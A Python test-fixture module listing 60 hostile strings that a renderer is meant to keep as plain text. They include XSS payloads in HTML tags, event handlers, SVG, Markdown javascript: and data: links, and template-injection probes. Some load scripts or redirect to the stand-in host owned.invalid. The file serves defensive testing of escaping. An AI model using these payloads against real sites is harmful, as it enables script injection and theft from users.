"""Strings that would run or load something if a page took them for markup: they must stay text."""

MARKER = "owned"
"""Every string sets `window.owned`, loads something of this name, or shows an element with this id if it works."""
TAGS = (
    "<script>window.owned=1</script>",
    "<ScRiPt>window.owned=1</sCrIpT>",
    "<script src=//owned.invalid/a.js></script>",
    "</script><script>window.owned=1</script>",
    "</title><script>window.owned=1</script>",
    "</textarea><script>window.owned=1</script>",
    "</style><script>window.owned=1</script>",
    "--><script>window.owned=1</script><!--",
    "<!--<script>window.owned=1</script>-->",
    "<![CDATA[<script>window.owned=1</script>]]>",
    "<script\n>window.owned=1</script\n>",
    "<scr<script>ipt>window.owned=1</scr</script>ipt>",
    "<iframe id=owned src=https://owned.invalid></iframe>",
    '<iframe id=owned srcdoc="<script>parent.owned=1</script>"></iframe>',
    "<object id=owned data=https://owned.invalid></object>",
    "<embed id=owned src=https://owned.invalid>",
    "<link rel=stylesheet href=https://owned.invalid/a.css>",
    "<base href=https://owned.invalid/>",
    '<meta http-equiv=refresh content="0;url=https://owned.invalid">',
    "<form id=owned action=https://owned.invalid><input name=a></form>",
    "<style>body{display:none}</style>",
    "<template id=owned><script>window.owned=1</script></template>",
    "<dialog open id=owned>trust me</dialog>",
)
EVENT_HANDLERS = (
    "<img src=x onerror=window.owned=1>",
    "<img src=x: onerror='window.owned=1'>",
    '<img src="https://owned.invalid/p.png">',
    "<body onload=window.owned=1>",
    "<input autofocus onfocus=window.owned=1>",
    "<details open ontoggle=window.owned=1>",
    "<video><source onerror=window.owned=1></video>",
    "<audio src=x onerror=window.owned=1>",
    "<marquee onstart=window.owned=1>",
    "<div id=owned onpointerover=window.owned=1 style=position:fixed;inset:0>over everything</div>",
    '" onmouseover="window.owned=1',
    "' onfocus='window.owned=1' autofocus='",
    '"><img src=x onerror=window.owned=1>',
    "`onload=window.owned=1`",
)
SVG = (
    "<svg onload=window.owned=1>",
    "<svg><script>window.owned=1</script></svg>",
    "<svg><animate onbegin=window.owned=1 attributeName=x dur=1s>",
    "<svg><use href='https://owned.invalid/a.svg#x'></use></svg>",
    '<svg><a xlink:href="javascript:window.owned=1"><text x=20 y=20>a</text></a></svg>',
    "<svg><foreignObject><script>window.owned=1</script></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.owned=1>",
)
MARKDOWN = (
    "[click](javascript:window.owned=1)",
    "[click](JaVaScRiPt:window.owned=1)",
    "[click](java\tscript:window.owned=1)",
    "[click](data:text/html,<script>window.owned=1</script>)",
    "[click](vbscript:window.owned=1)",
    "<javascript:window.owned=1>",
    "![owned](https://owned.invalid/p.png)",
    '![x](x" onerror="window.owned=1)',
    "[a]: javascript:window.owned=1\n\n[click][a]",
    "```html\n<script>window.owned=1</script>\n```",
    "`<img src=x onerror=window.owned=1>`",
    "> <script>window.owned=1</script>",
    "| <script>window.owned=1</script> | b |\n|---|---|\n| <img src=x onerror=window.owned=1> | 2 |",
)
TEMPLATES = (
    "{{ ''.__class__.__mro__ }}{{ 7*7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${window.owned=1}",
)
HOSTILE = (*TAGS, *EVENT_HANDLERS, *SVG, *MARKDOWN, *TEMPLATES)
"""All 60 of them."""
